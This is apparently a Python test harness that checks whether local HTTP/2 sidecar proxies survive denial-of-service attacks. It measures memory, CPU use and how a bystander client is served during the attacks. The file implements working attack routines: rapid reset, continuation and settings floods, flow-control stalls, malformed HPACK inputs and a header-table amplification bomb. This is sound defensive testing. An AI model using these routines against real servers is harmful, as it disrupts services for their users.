"""Floods, stalls and bad bytes against ports that speak HTTP/2.

Usage: attack.py < STAGE

STAGE is JSON: {"folder", "targets", "calls"}: PEM files, targets as in wire.py, and the port at which a bystander asks for `/`
all the while. Prints a table, and ends with 1 where a row says what went wrong: the sidecar's memory grew by more than
16 MB, the bystander was not served, what has to end went on, or the sidecar works on after all is over.
"""

import http.client
import json
import os
import sys
import threading
import time

import wire
from hyperframe import frame as frames

MAX_GROWTH_BYTES = 16 * 1024 * 1024
# Frames of a flood, and how long it may take: whoever is slowed down by the other side has met its defence.
FLOOD_FRAMES = 20_000
FLOOD_S = 3
# Processor time that a sidecar may use in the second after an attack: it answers the bystander.
MAX_AFTERWARDS_S = 0.8
# The bystander's next request waits so long: it is to see whether it is served, not to be a load.
BYSTANDER_EVERY_S = 0.02
OPEN_STREAMS = 200
BIG = "/api/1m"

ENDS = "ends"
MAY_GO_ON = "may go on"


def many(connection, piece, count=FLOOD_FRAMES, batch=500):
    """Sends `piece(number)` so many times, or until the other end has had enough; nothing is read meanwhile."""
    until = time.monotonic() + FLOOD_S
    for start in range(0, count, batch):
        some = b"".join(piece(number) for number in range(start, start + batch))
        if time.monotonic() > until or not connection.send(some, within_s=until - time.monotonic()):
            return


def odd(number):
    return 2 * number + 1


def rapid_reset(connection):
    many(connection, lambda at: connection.ask(odd(at), end=True) + wire.reset(odd(at)))


def reset_of_uploads(connection):
    many(connection, lambda at: connection.ask(odd(at), end=False) + wire.reset(odd(at)))


def resets_provoked(connection):
    # A window update of nothing is an error of the stream: the server resets it (CVE-2025-8671).
    many(connection, lambda at: connection.ask(odd(at), end=False) + wire.window(odd(at), 0))


def continuation_flood(connection):
    connection.send(wire.headers(1, connection.block(), whole=False))
    filler = b"\x00\x01a\x7f\x81\x07" + b"b" * 1032
    many(connection, lambda _: wire.continuation(1, filler * 4))


def empty_continuations(connection):
    connection.send(wire.headers(1, connection.block(), whole=False))
    many(connection, lambda _: wire.continuation(1, b""))


def settings_flood(connection):
    many(connection, lambda at: wire.settings([(4, 65_535 + at)]))


def settings_of_table_size(connection):
    many(connection, lambda at: wire.settings([(1, at % 2 * 4096)]))


def ping_flood(connection):
    many(connection, lambda _: wire.ping())


def empty_data(connection):
    connection.send(connection.ask(1, end=False))
    many(connection, lambda _: wire.data(1, b""))


def padded_data(connection):
    # A byte of padding length and 255 of padding: nothing for the app, all of it flow control.
    connection.send(connection.ask(1, end=False))
    many(connection, lambda _: wire.raw(0, 8, 1, b"\xff" + b"\x00" * 255))


def trickled_window(connection):
    # Each stream's window opens by a byte at a time.
    connection.send(b"".join(connection.ask(odd(at), BIG) for at in range(50)))
    many(connection, lambda at: wire.window(odd(at % 50), 1) + wire.window(0, 1))


def stall_without_window(connection):
    connection.send(b"".join(connection.ask(odd(at), BIG) for at in range(OPEN_STREAMS)))
    linger(connection)


def stall_without_reading(connection):
    # All the room there can be, and nothing is taken out of the socket.
    connection.send(wire.window(0, 2**31 - 1 - 65_535))
    connection.send(b"".join(connection.ask(odd(at), BIG) for at in range(OPEN_STREAMS)))
    time.sleep(FLOOD_S)


def uploads_that_wait(connection):
    # As many bytes as the windows admit, on each of many streams that never end.
    opened = b"".join(wire.headers(odd(at), connection.block("/orders/1", "PUT"), end=False) for at in range(OPEN_STREAMS))
    connection.send(opened)
    many(connection, lambda at: wire.data(odd(at % OPEN_STREAMS), bytes(4096)), count=OPEN_STREAMS, batch=50)


def window_overflow(connection):
    connection.send(wire.window(0, 2**31 - 1) * 2)


def bad_index(connection):
    connection.send(wire.headers(1, b"\x80"))


def index_beyond_the_table(connection):
    connection.send(wire.headers(1, connection.block() + b"\xff\xff\x03"))


def bad_huffman(connection):
    # The end-of-string symbol inside a string (RFC 7541 §5.2).
    connection.send(wire.headers(1, b"\x00\x84\xff\xff\xff\xff\x01a"))


def endless_integer(connection):
    connection.send(wire.headers(1, connection.block() + b"\xff" + b"\xff" * 20 + b"\x01"))


def string_beyond_the_block(connection):
    connection.send(wire.headers(1, connection.block() + b"\x00\x7f\xff\x7fa"))


def table_too_large(connection):
    connection.send(wire.headers(1, b"\x3f\xe1\xff\x7f" + connection.block()))


def header_bomb(connection):
    # One entry of the table, named thousands of times: a few bytes become megabytes.
    entry = b"\x40\x01a\x7f\x81\x1e" + b"b" * 3968
    connection.send(wire.headers(1, connection.block() + entry, end=True))
    many(connection, lambda at: wire.headers(odd(at + 1), connection.block() + b"\xbe" * 8_000), count=100, batch=10)


def long_header_list(connection):
    fields = [("x-filler-%d" % at, "v" * 1000) for at in range(12)]
    many(connection, lambda at: wire.headers(odd(at), connection.block(extra=fields), whole=False) + b"".join(
        wire.continuation(odd(at), connection.encoder.encode(fields, huffman=False)[:16_000], whole=last)
        for last in [False] * 7 + [True]), count=100, batch=10)


def cookie_crumbs(connection):
    crumbs = connection.encoder.encode([("cookie", "a=b")] * 10, huffman=False) * 500
    many(connection, lambda at: wire.headers(odd(at), connection.block() + crumbs[:15_000]), count=200, batch=10)


def priority_flood(connection):
    many(connection, lambda at: wire.priority(odd(at), odd(at + 1)))


def window_flood(connection):
    many(connection, lambda _: wire.window(0, 1))


def unknown_frames(connection):
    many(connection, lambda at: wire.raw(0xBE, 0xFF, at, b"x" * 64))


def streams_beyond_the_limit(connection):
    many(connection, lambda at: connection.ask(odd(at), BIG, end=False), count=2_000, batch=100)
    linger(connection)


def linger(connection):
    """Reads what comes, and gives no room for more."""
    for _ in connection.frames(lambda _: False, within_s=FLOOD_S):
        pass


NO_WINDOW = {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 0}
WIDE_WINDOW = {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}
NARROW_WINDOW = {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 1}
# Attack, settings it begins with, what must become of the connection.
ATTACKS = [
    (rapid_reset, None, MAY_GO_ON),
    (reset_of_uploads, None, MAY_GO_ON),
    (resets_provoked, None, MAY_GO_ON),
    (continuation_flood, None, ENDS),
    (empty_continuations, None, ENDS),
    (settings_flood, None, MAY_GO_ON),
    (settings_of_table_size, None, MAY_GO_ON),
    (ping_flood, None, MAY_GO_ON),
    (empty_data, None, MAY_GO_ON),
    (padded_data, None, MAY_GO_ON),
    (trickled_window, NARROW_WINDOW, MAY_GO_ON),
    (stall_without_window, NO_WINDOW, MAY_GO_ON),
    (stall_without_reading, WIDE_WINDOW, MAY_GO_ON),
    (uploads_that_wait, None, MAY_GO_ON),
    (window_overflow, None, ENDS),
    (bad_index, None, ENDS),
    (index_beyond_the_table, None, ENDS),
    (bad_huffman, None, ENDS),
    (endless_integer, None, ENDS),
    (string_beyond_the_block, None, ENDS),
    (table_too_large, None, ENDS),
    (header_bomb, None, MAY_GO_ON),
    (long_header_list, None, MAY_GO_ON),
    (cookie_crumbs, None, MAY_GO_ON),
    (priority_flood, None, MAY_GO_ON),
    (window_flood, None, MAY_GO_ON),
    (unknown_frames, None, MAY_GO_ON),
    (streams_beyond_the_limit, None, MAY_GO_ON),
]


class Bystander(threading.Thread):
    """Asks for `/` on connections of its own and looks at the sidecar's memory."""

    def __init__(self, port, pid):
        super().__init__()
        self.port, self.pid, self.over = port, pid, threading.Event()
        self.served, self.failed, self.slowest_s, self.peak = 0, [], 0.0, 0

    def run(self):
        while not self.over.wait(BYSTANDER_EVERY_S):
            began = time.monotonic()
            try:
                client = http.client.HTTPConnection("127.0.0.1", self.port, timeout=wire.PATIENCE_S)
                client.request("GET", "/", headers={"Host": "backend"})
                answer = client.getresponse()
                if (answer.status, answer.read()) != (200, b"ok"):
                    self.failed.append(str(answer.status))
                client.close()
                self.served += 1
            except (OSError, http.client.HTTPException) as error:
                self.failed.append(repr(error))
            self.slowest_s = max(self.slowest_s, time.monotonic() - began)
            self.peak = max(self.peak, resident_bytes(self.pid))


def resident_bytes(pid):
    with open(f"/proc/{pid}/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def processor_s(pid):
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def one(attack, settings, expected, target, stage):
    """A row of the table, and what is wrong in it."""
    bystander = Bystander(stage["calls"], target["pid"])
    before, used = resident_bytes(target["pid"]), processor_s(target["pid"])
    bystander.start()
    connection = wire.Wire(target, stage["folder"], settings)
    attack(connection)
    if expected == ENDS:
        reasons, ended = connection.drain()
    else:
        reasons, ended = connection.drain(within_s=0.2)
    used = processor_s(target["pid"]) - used
    connection.close()
    afterwards = processor_s(target["pid"])
    time.sleep(0.3)
    bystander.over.set()
    bystander.join()
    afterwards = processor_s(target["pid"]) - afterwards
    growth = max(bystander.peak, resident_bytes(target["pid"])) - before
    wrong = []
    if growth > MAX_GROWTH_BYTES:
        wrong.append("memory grew")
    if bystander.failed or not bystander.served:
        wrong.append(f"the bystander was not served: {bystander.failed[:3]}")
    if expected == ENDS and not ended:
        wrong.append("the connection goes on")
    if afterwards > MAX_AFTERWARDS_S:
        wrong.append(f"works on: {afterwards:.2f} s")
    how = "ended" if ended else "goes on"
    first = next((f"{kind} {code}" for kind, code in reasons), "")
    print(
        f"{target['name']:9} {attack.__name__:26} {how:8} {first:15} {growth / 2**20:6.1f} MB {used:5.2f} s "
        f"{bystander.served:4} served, slowest {bystander.slowest_s * 1000:4.0f} ms  {'; '.join(wrong) or 'ok'}",
        flush=True,
    )
    return wrong


def main():
    stage = json.load(sys.stdin)
    wrong = 0
    for target in stage["targets"]:
        warm = Bystander(stage["calls"], target["pid"])
        warm.start()
        time.sleep(0.5)
        warm.over.set()
        warm.join()
        for attack, settings, expected in ATTACKS:
            wrong += bool(one(attack, settings, expected, target, stage))
    sys.exit(1 if wrong else 0)


main()
